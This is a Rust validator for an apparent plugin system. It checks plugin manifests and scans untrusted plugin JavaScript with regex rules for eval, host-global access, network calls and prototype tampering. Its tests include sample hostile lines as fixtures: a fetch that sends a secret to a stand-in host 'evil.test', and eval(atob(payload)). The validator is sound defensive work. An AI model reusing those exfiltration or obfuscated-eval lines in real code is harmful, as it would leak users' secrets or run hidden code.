//! Manifest and code validator.
//!
//! Static checks on untrusted input, run before anything executes. All
//! functions here are pure: no I/O, no global state beyond compiled
//! patterns.

use crate::capabilities::{self, Capability};
use holofoil_types::{
    MechanicEntry, PluginId, PluginManifest, SettingsEntry, SourceEntry, ThemeEntry, TrustTier,
};
use regex::Regex;
use serde::Serialize;
use serde_json::{Map, Value};
use std::cmp::Reverse;
use std::collections::HashSet;
use std::fmt;
use std::sync::LazyLock;

/// Source files above this size are flagged.
pub const MAX_SOURCE_BYTES: usize = 512 * 1024;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Info,
    Warning,
    Error,
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Info => "info",
            Self::Warning => "warning",
            Self::Error => "error",
        })
    }
}

/// Where an issue was found.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "lowercase", tag = "kind", content = "at")]
pub enum IssueLocation {
    /// JSON path inside the manifest, e.g. `assets[2].path`.
    Field(String),
    /// 1-based source line.
    Line(usize),
    /// The source text as a whole.
    Source,
}

impl fmt::Display for IssueLocation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Field(path) => f.write_str(path),
            Self::Line(n) => write!(f, "line {n}"),
            Self::Source => f.write_str("source"),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ValidationIssue {
    pub severity: Severity,
    /// Stable kebab-case identifier.
    pub code: &'static str,
    pub location: IssueLocation,
    pub message: String,
}

#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct ValidationResult {
    pub issues: Vec<ValidationIssue>,
}

impl ValidationResult {
    /// No `error` issues.
    pub fn is_valid(&self) -> bool {
        !self.issues.iter().any(|i| i.severity == Severity::Error)
    }

    pub fn error_count(&self) -> usize {
        self.count(Severity::Error)
    }

    pub fn warning_count(&self) -> usize {
        self.count(Severity::Warning)
    }

    pub fn warnings(&self) -> impl Iterator<Item = &ValidationIssue> {
        self.issues
            .iter()
            .filter(|i| i.severity == Severity::Warning)
    }

    pub fn has_code(&self, code: &str) -> bool {
        self.issues.iter().any(|i| i.code == code)
    }

    pub fn merge(&mut self, other: ValidationResult) {
        self.issues.extend(other.issues);
    }

    fn count(&self, severity: Severity) -> usize {
        self.issues.iter().filter(|i| i.severity == severity).count()
    }

    fn push(
        &mut self,
        severity: Severity,
        code: &'static str,
        location: IssueLocation,
        message: impl Into<String>,
    ) {
        self.issues.push(ValidationIssue {
            severity,
            code,
            location,
            message: message.into(),
        });
    }

    fn error(&mut self, code: &'static str, field: impl Into<String>, message: impl Into<String>) {
        self.push(Severity::Error, code, IssueLocation::Field(field.into()), message);
    }

    fn warning(&mut self, code: &'static str, field: impl Into<String>, message: impl Into<String>) {
        self.push(Severity::Warning, code, IssueLocation::Field(field.into()), message);
    }
}

/// A manifest that passed validation, with the non-fatal issues found.
#[derive(Debug, Clone, PartialEq)]
pub struct ValidatedManifest {
    pub manifest: PluginManifest,
    pub report: ValidationResult,
}

// ============================================================================
// Manifest checks
// ============================================================================

const KNOWN_ENTRY_POINTS: [&str; 4] = ["theme", "mechanic", "settings", "source"];

pub fn validate_manifest(raw: &Value) -> ValidationResult {
    let mut result = ValidationResult::default();
    let Some(obj) = raw.as_object() else {
        result.error("not-an-object", "$", "manifest must be a JSON object");
        return result;
    };

    if let Some(id) = required_str(obj, "id", &mut result)
        && let Err(reason) = PluginId::check(id)
    {
        result.error("invalid-id", "id", format!("'{id}' {reason}"));
    }

    if let Some(name) = required_str(obj, "name", &mut result)
        && name.trim().is_empty()
    {
        result.error("invalid-type", "name", "name must not be empty");
    }

    if let Some(version) = required_str(obj, "version", &mut result)
        && let Err(e) = semver::Version::parse(version)
    {
        result.error("invalid-version", "version", format!("'{version}' is not semver: {e}"));
    }

    for field in ["description", "author"] {
        optional_str(obj, field, &mut result);
    }
    if let Some(main) = optional_str(obj, "main", &mut result)
        && let Some(problem) = relative_path_problem(main)
    {
        result.error("invalid-main", "main", format!("'{main}' {problem}"));
    }

    let tier = match obj.get("tier") {
        None => TrustTier::Community,
        Some(Value::String(s)) => match s.parse::<TrustTier>() {
            Ok(t) => t,
            Err(_) => {
                result.error(
                    "invalid-tier",
                    "tier",
                    format!("'{s}' is not one of builtin, curated, community"),
                );
                TrustTier::Community
            }
        },
        Some(_) => {
            result.error("invalid-type", "tier", "tier must be a string");
            TrustTier::Community
        }
    };

    let requested = check_capabilities(obj, &mut result);
    let asset_paths = check_assets(obj, tier, requested.contains(&Capability::Network), &mut result);
    check_entry_points(obj, &asset_paths, &mut result);

    result
}

pub fn is_valid_manifest(raw: &Value) -> bool {
    validate_manifest(raw).is_valid()
}

/// Validates and deserializes a manifest in one step.
pub fn parse_manifest(raw: &Value) -> Result<ValidatedManifest, ValidationResult> {
    let mut report = validate_manifest(raw);
    if !report.is_valid() {
        return Err(report);
    }
    match serde_json::from_value::<PluginManifest>(raw.clone()) {
        Ok(manifest) => Ok(ValidatedManifest { manifest, report }),
        Err(e) => {
            report.error("invalid-manifest", "$", e.to_string());
            Err(report)
        }
    }
}

fn required_str<'a>(obj: &'a Map<String, Value>, field: &str, result: &mut ValidationResult) -> Option<&'a str> {
    match obj.get(field) {
        None | Some(Value::Null) => {
            result.error("missing-field", field, format!("'{field}' is required"));
            None
        }
        Some(Value::String(s)) => Some(s),
        Some(_) => {
            result.error("invalid-type", field, format!("'{field}' must be a string"));
            None
        }
    }
}

fn optional_str<'a>(obj: &'a Map<String, Value>, field: &str, result: &mut ValidationResult) -> Option<&'a str> {
    match obj.get(field) {
        None | Some(Value::Null) => None,
        Some(Value::String(s)) => Some(s),
        Some(_) => {
            result.error("invalid-type", field, format!("'{field}' must be a string"));
            None
        }
    }
}

fn check_capabilities(obj: &Map<String, Value>, result: &mut ValidationResult) -> Vec<Capability> {
    let mut requested = Vec::new();
    let items = match obj.get("capabilities") {
        None | Some(Value::Null) => return requested,
        Some(Value::Array(items)) => items,
        Some(_) => {
            result.error("invalid-type", "capabilities", "capabilities must be an array");
            return requested;
        }
    };

    let mut seen = HashSet::new();
    for (i, item) in items.iter().enumerate() {
        let field = format!("capabilities[{i}]");
        let Some(id) = item.as_str() else {
            result.error("invalid-type", field, "capability ids must be strings");
            continue;
        };
        if !seen.insert(id) {
            result.warning("duplicate-capability", field, format!("'{id}' is requested more than once"));
            continue;
        }
        match id.parse::<Capability>() {
            Ok(cap) => requested.push(cap),
            Err(e) => result.error("unknown-capability", field, e.to_string()),
        }
    }
    requested
}

fn check_assets(
    obj: &Map<String, Value>,
    tier: TrustTier,
    network_requested: bool,
    result: &mut ValidationResult,
) -> HashSet<String> {
    let mut paths = HashSet::new();
    let items = match obj.get("assets") {
        None | Some(Value::Null) => return paths,
        Some(Value::Array(items)) => items,
        Some(_) => {
            result.error("invalid-type", "assets", "assets must be an array");
            return paths;
        }
    };

    let mut declared: u64 = 0;
    for (i, item) in items.iter().enumerate() {
        let Some(asset) = item.as_object() else {
            result.error("invalid-type", format!("assets[{i}]"), "asset must be an object");
            continue;
        };

        match asset.get("path").and_then(Value::as_str) {
            None => result.error("invalid-asset-path", format!("assets[{i}].path"), "path must be a string"),
            Some("") => result.error("invalid-asset-path", format!("assets[{i}].path"), "path must not be empty"),
            Some(path) if is_url(path) => {
                if !network_requested {
                    result.error(
                        "remote-asset",
                        format!("assets[{i}].path"),
                        format!("'{path}' is remote but 'network' is not requested"),
                    );
                }
                paths.insert(path.to_string());
            }
            Some(path) => {
                if let Some(problem) = relative_path_problem(path) {
                    result.error("invalid-asset-path", format!("assets[{i}].path"), format!("'{path}' {problem}"));
                }
                paths.insert(path.to_string());
            }
        }

        match asset.get("size").and_then(Value::as_u64) {
            Some(size) => declared = declared.saturating_add(size),
            None => result.error(
                "invalid-asset-size",
                format!("assets[{i}].size"),
                "size must be a non-negative integer",
            ),
        }

        match asset.get("sha256") {
            None | Some(Value::Null) => {}
            Some(Value::String(d)) if d.len() == 64 && d.bytes().all(|b| b.is_ascii_hexdigit()) => {}
            Some(_) => result.error(
                "invalid-digest",
                format!("assets[{i}].sha256"),
                "sha256 must be 64 hex characters",
            ),
        }
    }

    let ceiling = capabilities::get_tier_limits(tier).max_cache_bytes;
    if declared > ceiling {
        result.warning(
            "asset-budget-exceeded",
            "assets",
            format!("declared assets total {declared} bytes, above the {tier} cache ceiling of {ceiling}"),
        );
    }
    paths
}

fn check_entry_points(obj: &Map<String, Value>, asset_paths: &HashSet<String>, result: &mut ValidationResult) {
    let entries = match obj.get("entry_points") {
        None | Some(Value::Null) => {
            result.warning("no-entry-points", "entry_points", "plugin declares no entry points");
            return;
        }
        Some(Value::Object(entries)) => entries,
        Some(_) => {
            result.error("invalid-type", "entry_points", "entry_points must be an object");
            return;
        }
    };

    let mut known = 0;
    for (key, value) in entries {
        let field = format!("entry_points.{key}");
        let outcome = match key.as_str() {
            "theme" => serde_json::from_value::<ThemeEntry>(value.clone()).map(|theme| {
                if let Some(sheet) = &theme.stylesheet
                    && !asset_paths.contains(sheet)
                {
                    result.warning(
                        "undeclared-stylesheet",
                        format!("{field}.stylesheet"),
                        format!("'{sheet}' is not listed in assets"),
                    );
                }
            }),
            "mechanic" => serde_json::from_value::<MechanicEntry>(value.clone()).map(|_| ()),
            "settings" => serde_json::from_value::<SettingsEntry>(value.clone()).map(|settings| {
                for (i, f) in settings.fields.iter().enumerate() {
                    if !f.default.is_null() && !f.kind.accepts(&f.default) {
                        result.warning(
                            "invalid-setting-default",
                            format!("{field}.fields[{i}].default"),
                            format!("default for '{}' does not match its type", f.key),
                        );
                    }
                }
            }),
            "source" => serde_json::from_value::<SourceEntry>(value.clone()).map(|_| ()),
            _ => {
                result.warning(
                    "unknown-entry-point",
                    field,
                    format!("'{key}' is not one of {}", KNOWN_ENTRY_POINTS.join(", ")),
                );
                continue;
            }
        };
        known += 1;
        if let Err(e) = outcome {
            result.error("invalid-entry-point", field, e.to_string());
        }
    }
    if known == 0 {
        result.warning("no-entry-points", "entry_points", "plugin declares no entry points");
    }
}

pub(crate) fn is_url(path: &str) -> bool {
    path.contains("://")
}

pub(crate) fn relative_path_problem(path: &str) -> Option<&'static str> {
    if path.contains('\\') {
        Some("must use forward slashes")
    } else if path.starts_with('/') || path.as_bytes().get(1) == Some(&b':') || is_url(path) {
        Some("must be relative")
    } else if path.split('/').any(|seg| seg == "..") {
        Some("must not contain '..'")
    } else {
        None
    }
}

// ============================================================================
// Code checks
// ============================================================================

struct CodeRule {
    code: &'static str,
    pattern: Regex,
    message: &'static str,
}

fn rule(code: &'static str, pattern: &str, message: &'static str) -> CodeRule {
    CodeRule {
        code,
        pattern: Regex::new(pattern).expect("built-in code pattern"),
        message,
    }
}

static ERROR_RULES: LazyLock<Vec<CodeRule>> = LazyLock::new(|| {
    vec![
        rule("dynamic-eval", r"\beval\s*\(", "dynamic evaluation with eval()"),
        rule("dynamic-eval", r"\bnew\s+Function\s*\(", "dynamic evaluation with new Function()"),
        rule(
            "host-global",
            r"(?:^|[^\w.$])(?:window|document|parent|top)\.",
            "access to host globals",
        ),
        rule(
            "host-global",
            r"\b(?:globalThis|localStorage|sessionStorage|indexedDB)\b",
            "access to host globals or host storage",
        ),
    ]
});

static NETWORK_RULES: LazyLock<Vec<CodeRule>> = LazyLock::new(|| {
    vec![
        rule("network-access", r"\bfetch\s*\(", "network request with fetch()"),
        rule("network-access", r"\bXMLHttpRequest\b", "network request with XMLHttpRequest"),
        rule("network-access", r"\bWebSocket\b", "network socket"),
        rule("network-access", r"\bimportScripts\b", "remote script import"),
    ]
});

static WARNING_RULES: LazyLock<Vec<CodeRule>> = LazyLock::new(|| {
    vec![
        rule("prototype-tampering", r"__proto__", "prototype tampering via __proto__"),
        rule("prototype-tampering", r"\bObject\.prototype\b", "prototype tampering via Object.prototype"),
        rule("unbounded-loop", r"\bwhile\s*\(\s*true\s*\)", "unbounded while (true) loop"),
        rule("unbounded-loop", r"\bfor\s*\(\s*;\s*;\s*\)", "unbounded for (;;) loop"),
        rule("interval-timer", r"\bsetInterval\s*\(", "repeating timer"),
    ]
});

/// Conservative line scan of plugin source. Leading comments are skipped.
pub fn validate_plugin_code(source: &str, requested: &[Capability]) -> ValidationResult {
    let mut result = ValidationResult::default();
    let network = requested.contains(&Capability::Network);

    if source.len() > MAX_SOURCE_BYTES {
        result.push(
            Severity::Warning,
            "source-too-large",
            IssueLocation::Source,
            format!("source is {} bytes, above {MAX_SOURCE_BYTES}", source.len()),
        );
    }

    let mut in_block_comment = false;
    for (idx, line) in source.lines().enumerate() {
        let Some(line) = code_after_comments(line, &mut in_block_comment) else {
            continue;
        };

        let location = IssueLocation::Line(idx + 1);
        for r in ERROR_RULES.iter().filter(|r| r.pattern.is_match(line)) {
            result.push(Severity::Error, r.code, location.clone(), r.message);
        }
        for r in NETWORK_RULES.iter().filter(|r| r.pattern.is_match(line)) {
            if network {
                result.push(Severity::Info, "network-use", location.clone(), r.message);
            } else {
                result.push(
                    Severity::Error,
                    r.code,
                    location.clone(),
                    format!("{} without the 'network' capability", r.message),
                );
            }
        }
        for r in WARNING_RULES.iter().filter(|r| r.pattern.is_match(line)) {
            result.push(Severity::Warning, r.code, location.clone(), r.message);
        }
    }
    result
}

/// Strips leading comments from `line`, returning the code that follows.
/// A block comment opened mid-line is not tracked, so the rest of such a
/// comment is scanned as code.
fn code_after_comments<'a>(line: &'a str, in_block_comment: &mut bool) -> Option<&'a str> {
    let mut rest = line.trim_start();
    loop {
        if *in_block_comment {
            let end = rest.find("*/")?;
            *in_block_comment = false;
            rest = rest[end + 2..].trim_start();
        }
        if rest.starts_with("//") {
            return None;
        }
        match rest.strip_prefix("/*") {
            Some(body) => {
                *in_block_comment = true;
                rest = body;
            }
            None => break,
        }
    }
    (!rest.is_empty()).then_some(rest)
}

/// Stable human-readable summary.
pub fn format_validation_result(result: &ValidationResult) -> String {
    let mut out = if result.is_valid() {
        "validation passed".to_string()
    } else {
        format!(
            "validation failed: {} error(s), {} warning(s)",
            result.error_count(),
            result.warning_count()
        )
    };

    let mut issues: Vec<&ValidationIssue> = result.issues.iter().collect();
    issues.sort_by(|a, b| {
        (Reverse(a.severity), &a.location, a.code).cmp(&(Reverse(b.severity), &b.location, b.code))
    });
    for issue in issues {
        out.push_str(&format!(
            "\n  [{}] {} {}: {}",
            issue.severity, issue.location, issue.code, issue.message
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn base() -> Value {
        json!({
            "id": "community.foil",
            "name": "Foil",
            "version": "1.0.0",
            "entry_points": { "theme": { "name": "Foil" } }
        })
    }

    #[test]
    fn minimal_manifest_passes() {
        let result = validate_manifest(&base());
        assert!(result.is_valid(), "{}", format_validation_result(&result));
        assert!(result.issues.is_empty());
    }

    #[test]
    fn non_object_is_rejected() {
        assert!(!is_valid_manifest(&json!([1, 2])));
    }

    #[test]
    fn semver_is_enforced() {
        let mut m = base();
        m["version"] = json!("1.0");
        assert!(validate_manifest(&m).has_code("invalid-version"));
    }

    #[test]
    fn windows_drive_paths_are_absolute() {
        assert_eq!(relative_path_problem("C:/x.png"), Some("must be relative"));
        assert_eq!(relative_path_problem("img/x.png"), None);
        assert_eq!(relative_path_problem("https://elsewhere.test/x.js"), Some("must be relative"));
    }

    #[test]
    fn property_access_named_top_is_not_a_global() {
        let result = validate_plugin_code("const y = rect.top.value;", &[]);
        assert!(result.issues.is_empty());
        let result = validate_plugin_code("top.location = 'x';", &[]);
        assert!(result.has_code("host-global"));
    }

    #[test]
    fn block_comments_are_skipped() {
        let src = "/*\n eval('x')\n * fetch('y')\n*/\nconst a = 1;";
        assert!(validate_plugin_code(src, &[]).issues.is_empty());
    }

    #[test]
    fn code_after_a_closed_block_comment_is_scanned() {
        let result = validate_plugin_code("/* helper */ eval(atob(payload));", &[]);
        assert!(result.has_code("dynamic-eval"));

        let result = validate_plugin_code("/*\n docs\n*/ eval(x);", &[]);
        assert_eq!(result.issues[0].location, IssueLocation::Line(3));

        let result = validate_plugin_code("/* a */ /* b */ // c eval(x)", &[]);
        assert!(result.issues.is_empty());
    }

    #[test]
    fn star_led_expression_lines_are_code() {
        let src = "const n = 2\n*fetch('https://evil.test/x?d=' + secret).length;";
        let result = validate_plugin_code(src, &[]);
        assert!(result.has_code("network-access"));
        assert!(!result.is_valid());
    }
}
